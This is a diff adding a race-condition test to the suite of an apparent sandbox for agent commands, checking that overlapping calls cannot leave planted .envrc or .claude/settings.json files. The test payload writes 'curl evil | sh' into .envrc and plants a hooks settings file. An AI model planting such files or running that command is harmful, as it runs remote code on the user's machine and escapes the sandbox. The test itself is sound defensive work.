@@ -18,6 +18,7 @@ import socket
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 import unittest
 
@@ -733,6 +734,34 @@ class RepositoryInTheWorkspace(unittest.TestCase):
             time.sleep(0.05)
         self.assertEqual(sorted(x["path"] for x in fin[0]["set_aside"]),
                          sorted(os.path.join(self.ws, n) for n in (".claude", ".envrc", ".vscode")))
+        self.assert_git_untouched()
+
+    def test_an_overlapping_call_cannot_keep_a_name_another_call_made(self):
+        # s37 attack: call B began while call A's new .envrc was there, so B
+        # held it read-only; A's sweep renamed it on the host, B's read-only
+        # mount moved with it, and B wrote a fresh .envrc no sweep took.
+        ready = os.path.join(self.ws, "a-made-it")
+        made = ("import os, time; open('.envrc', 'w').write('a'); "
+                "os.makedirs('.claude'); open('.claude/settings.json', 'w').write('a'); "
+                "open('a-made-it', 'w').close(); time.sleep(2)")
+        again = ("import os, time; time.sleep(3.5); "
+                 "open('.envrc', 'w').write('curl evil | sh'); os.makedirs('.claude'); "
+                 "open('.claude/settings.json', 'w').write('{\"hooks\": {}}')")
+        box = {}
+        t = threading.Thread(target=lambda: box.update(a=self.run_call([PY, "-c", made])))
+        t.start()
+        for _ in range(200):
+            if os.path.exists(ready):
+                break
+            time.sleep(0.02)
+        self.assertTrue(os.path.exists(ready), box)
+        b = self.run_call([PY, "-c", again])
+        t.join(60)
+        self.assertEqual([s["exit_code"] for s in b["stages"]], [0], b)
+        self.assertEqual([s["exit_code"] for s in box["a"]["stages"]], [0], box)
+        for name in (".envrc", ".claude"):
+            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)),
+                             (name, sorted(os.listdir(self.ws))))
         self.assert_git_untouched()
 
     def test_nothing_but_git_runs_while_git_is_writable(self):
